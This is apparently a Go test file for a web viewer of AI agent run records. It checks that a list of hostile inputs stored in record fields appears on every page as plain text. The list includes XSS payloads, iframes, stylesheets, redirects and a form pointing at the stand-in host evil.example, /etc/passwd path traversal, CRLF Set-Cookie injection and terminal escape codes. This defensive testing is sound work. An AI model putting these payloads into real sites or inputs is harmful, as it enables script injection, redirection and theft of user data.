package web_test

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/actlog/actlog/internal/door/httpd"
	"github.com/actlog/actlog/internal/record/field"
	"github.com/actlog/actlog/internal/testkit/pgtest"
	"github.com/actlog/actlog/internal/testkit/storetest"
	"github.com/actlog/actlog/internal/view/outline"
	"github.com/actlog/actlog/record"
)

// payloads are texts that would do harm on a page which takes them for more than texts: they set hit, or ask another
// host.
var payloads = []string{
	`<script>window.hit=1</script>`, `"><img src=x onerror=window.hit=1>`,
	`'"></textarea></title></style></pre></bdi></template><svg/onload=window.hit=1>`, `javascript:window.hit=1`,
	`</pre><iframe src="//evil.example"></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>">`,
	`<a href="javascript:window.hit=1">x</a>`, `<!--`, `]]><style>*{display:none}</style>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<form action=//evil.example><input name=key><button>go</button>`,
	`{"a":"</script><base href=//evil.example>"}`,
	`<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
	`<details open ontoggle=window.hit=1>`, `<div style="background:url(//evil.example)" onpointerover=window.hit=1>`,
	`</bdi></bdo><bdo dir=rtl>`, "\u202eevil\u2066\u2069\u200b\ufeff",
	"\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b[2J", "a\x00b\xff\xfe", "\r\n\r\nSet-Cookie: hit=1",
	"a\tb\u2028c\u2029d", `&lt;script&gt; &#60;b&#62; &#x202e;`, `{{.}} ${7*7} {% raw %}`,
	`../../etc/passwd?x#y&at=z%00%2f`,
	`![x](https://evil.example/x.png) [y](javascript:window.hit=1) <https://evil.example> [z](//evil.example "t\" onclick=\"window.hit=1")`,
	"[ref] ![ref]\n\n[ref]: javascript:window.hit=1", "```html\n<script>window.hit=1</script>\n```",
	"<https://evil.example/\"onload=window.hit=1>", `data:text/html,<script>window.hit=1</script>`,
}

// poison sets every field of a row that may hold a text to the first of some values that it takes.
func poison(c record.Change, values ...string) record.Change {
	for _, f := range field.Fields(c.Kind()) {
		if !f.In(c).IsZero() || f.Role == field.Revision {
			continue
		}
		for _, value := range values {
			if set(f, c, value) {
				break
			}
		}
	}
	return c
}

// set sets a field to a text, in whatever form it takes one. It reports false if it takes none.
func set(f *field.Field, c record.Change, value string) bool {
	at := f.In(c)
	taken := func() bool {
		if _, _, err := field.Clean(c); err == nil {
			return true
		}
		at.SetZero()
		return false
	}

	quoted := quote(value)
	switch f.Type {
	case field.Text:
		if at.Kind() == reflect.Pointer {
			at.Set(reflect.New(at.Type().Elem()))
			at.Elem().SetString(value)
		} else {
			at.SetString(value)
		}
		return taken()
	case field.Texts:
		at.Set(reflect.ValueOf([]string{value, value}))
		return taken()
	case field.JSON:
		for _, form := range []string{
			`{%[1]s:%[1]s,"list":[%[1]s,{"deep":%[1]s}]}`, `[{"label":%[1]s,"value":%[1]s}]`, `%[1]s`,
		} {
			at.SetBytes(fmt.Appendf(nil, form, quoted))
			if taken() {
				return true
			}
		}
	}

	return false
}

// quote returns a text as JSON, with everything in it as it is that JSON allows.
func quote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteString(`\` + string(r))
		case r < ' ':
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// poisoned returns a run with rows of every kind, whose texts are the first of some values that they take. Its prompts
// are texts, and lists of messages in several forms.
func poisoned(root string, values ...string) []record.Change {
	last := values[len(values)-1] // short enough for an id
	step, failed := "step "+last, new(record.Failed)
	q := quote(values[0])
	changes := []record.Change{
		&record.Plan{
			RootPlanID: root, CurrentPlanID: root, ParentPlanID: new(""), ToolCallID: new(""), State: failed,
			StartTime: storetest.At(0), EndTime: storetest.At(9),
		},
		&record.AgentExecution{RootPlanID: root, PlanID: root, StepID: step, State: failed, StartTime: storetest.At(0)},
		&record.ThinkAct{RootPlanID: root, StepID: step, Seq: 0, State: failed},
		&record.ThinkAct{RootPlanID: root, StepID: step, Seq: 1, State: failed, Attempt: new(int64(2)),
			ThinkInput: new(fmt.Sprintf(`[{"role":%[1]s,"name":%[1]s,"content":%[1]s},{"role":"user","content":[{"type":"text","text":%[1]s},{"type":%[1]s,%[1]s:%[1]s}]},`+
				`{"role":"assistant","content":%[1]s,"tool_calls":[{"id":%[1]s,"function":{"name":%[1]s,"arguments":%[1]s}}]},{"role":"tool","tool_call_id":%[1]s,"content":%[1]s,"status":"error"}]`, q)),
			ThinkOutput: new(
				fmt.Sprintf(
					`{"role":"assistant","parts":[{"type":"reasoning","content":%[1]s},{"text":%[1]s},{"call":{"id":"none","name":%[1]s,"arguments":%[1]s}}],%[1]s:%[1]s}`, q,
				),
			)},
		&record.ThinkAct{
			RootPlanID: root, StepID: step, Seq: 2,
			ThinkInput: new(fmt.Sprintf(`[{"role":%[1]s,"name":%[1]s,"content":%[1]s},{"role":"user","content":"new"}]`, q)),
		},
		&record.ActTool{
			RootPlanID: root, StepID: step, Seq: 1, ToolCallID: last, State: failed, Attempt: new(int64(2)),
			StartTime: storetest.At(1), EndTime: storetest.At(2),
		},
		&record.Plan{RootPlanID: root, CurrentPlanID: root + " sub", ParentPlanID: &root, ToolCallID: &last, State: failed},
		&record.Wait{RootPlanID: root, PlanID: root, WaitID: last, StepID: &step, ToolCallID: new("")},
		&record.Thought{RootPlanID: root, PlanID: root},
		&record.Artifact{RootPlanID: root, PlanID: root},
		&record.Source{RootPlanID: root, PlanID: root},
	}

	kinds := map[record.Kind]bool{}
	for _, c := range changes {
		kinds[poison(c, values...).Kind()] = true
	}
	if len(kinds) != len(record.Kinds) {
		panic(fmt.Sprintf("rows of %d kinds, there are %d", len(kinds), len(record.Kinds)))
	}
	return changes
}

// all returns a few payloads that have place in a name, and all payloads.
func all() (short, long string) { return strings.Join(payloads[:3], " "), strings.Join(payloads, "\n") }

// crawl follows all links of a site from some pages on, checks each page, and returns their paths. The tree is looked
// at unfolded in one way only.
func (s *site) crawl(from ...string) (paths []string) {
	s.t.Helper()
	seen := map[string]bool{}
	for len(from) > 0 {
		path, _, _ := strings.Cut(from[0], "#")
		from = from[1:]
		u, err := url.Parse(path)
		if err != nil {
			s.t.Errorf("%s: %v", path, err)
			continue
		}

		if seen[u.Path+"?"+u.Query().Encode()] || strings.HasPrefix(path, "/assets/") || u.Query().Has("fold") ||
			u.Scheme != "" ||
			u.Path == "/charts" && u.RawQuery != "" || u.Path == "/" && u.Query().Has("until") { // the same for other times
			continue
		}

		seen[u.Path+"?"+u.Query().Encode()] = true

		switch {
		case strings.HasSuffix(u.Path, "/text"):
			s.download(path)
			continue
		case strings.HasSuffix(u.Path, "/records"): // no page either: browsers keep it as a file
			if got := s.send("GET", path, ""); got.StatusCode != http.StatusOK ||
				got.Header.Get("Content-Type") != "application/x-ndjson" || got.Header.Get("X-Content-Type-Options") != "nosniff" {
				s.t.Errorf("GET %s: %d %v", path, got.StatusCode, got.Header)
			}
			continue
		}

		if s.send("GET", path, "").StatusCode == http.StatusNotFound {
			continue // such as a session of which nothing else is on record
		}

		paths = append(paths, path)
		p := s.get(path, http.StatusOK)
		for n := range p.root.Descendants() {
			if href := attr(n, "href"); n.Type == html.ElementNode && n.Data == "a" {
				from = append(from, href)
			}
		}
	}

	return paths
}

// download checks the answer with a text as a file.
func (s *site) download(path string) {
	s.t.Helper()
	got := s.send("GET", path, "")
	h := got.Header

	if got.StatusCode != http.StatusOK || h.Get("Content-Type") != "text/plain; charset=UTF-8" ||
		!strings.HasPrefix(h.Get("Content-Disposition"), "attachment; filename=") ||
		h.Get("X-Content-Type-Options") != "nosniff" {
		s.t.Errorf("GET %s: %d %v", path, got.StatusCode, h)
	}
	if _, err := io.Copy(io.Discard, got.Body); err != nil {
		s.t.Error(err)
	}
}

// TestHostileRows: whatever models and tools wrote, in whatever field, is text on the page, and nothing else. For that,
// its bytes are shown as they are on record.
func TestHostileRows(t *testing.T) {
	pgtest.NotRaced(t, "nothing runs in parallel in it; it checks what a page shows")
	t.Parallel()
	s := open(t, httpd.Config{})
	for i, payload := range payloads {
		root := fmt.Sprint("root", i, payload)
		clean, _, err := field.Clean(&record.Plan{RootPlanID: root, CurrentPlanID: root, Title: &payload})
		if err != nil {
			t.Fatal(err)
		}

		root, shown := clean.(*record.Plan).RootPlanID, *clean.(*record.Plan).Title
		storetest.Write(t, s.store, poisoned(root, payload)...)
		for _, r := range s.get("/runs/"+url.PathEscape(root), http.StatusOK).all("role", "treeitem") {
			s.get(attr(r, "href"), http.StatusOK)
			if raw := pre(s.get(attr(r, "href")+"&view=raw", http.StatusOK).detail()); !slices.Contains(raw, shown) {
				t.Errorf("%q is not shown of %s, but %q", shown, attr(r, "id"), raw)
			}
		}
	}

	s.get("/", http.StatusOK)
}

// TestHostilePages is TestHostileRows for every page to which links lead, with all payloads at once.
func TestHostilePages(t *testing.T) {
	pgtest.NotRaced(t, "nothing runs in parallel in it; it checks what a page shows")
	t.Parallel()
	s := open(t, httpd.Config{})
	short, long := all()
	changes := poisoned("root "+short, long, short)
	storetest.Write(t, s.store, changes...)

	paths := s.crawl("/", "/runs/"+url.PathEscape("root "+short), "/search?q="+url.QueryEscape(payloads[0]))
	views := map[string]int{}
	for _, path := range paths {
		u, err := url.Parse(path)
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"view", "markdown", "earlier", "whole"} {
			if v := u.Query().Get(name); v != "" {
				views[name]++
			}
		}

		if u.Query().Get("view") != "raw" {
			continue
		}

		shown := pre(s.get(path, http.StatusOK).detail())
		for _, c := range changes {
			clean, _, err := field.Clean(c)
			if err != nil {
				t.Fatal(err)
			}
			if at := atOf(clean); at != u.Query().Get("at") {
				continue
			}
			for _, f := range field.Fields(clean.Kind()) {
				if text, ok := f.Text(clean); ok && f.Long() && f.Readable() && !slices.Contains(shown, text) {
					t.Errorf("%s of %s is not shown as it is", f.Name, u.Query().Get("at"))
				}
			}
		}
	}

	if views["view"] < 27 || views["markdown"] < 20 || views["earlier"] == 0 {
		t.Errorf("%d pages: %v", len(paths), views)
	}
}

// atOf returns the address of a row in its run.
func atOf(c record.Change) string {
	at, _ := outline.AtOf(c)
	return at
}
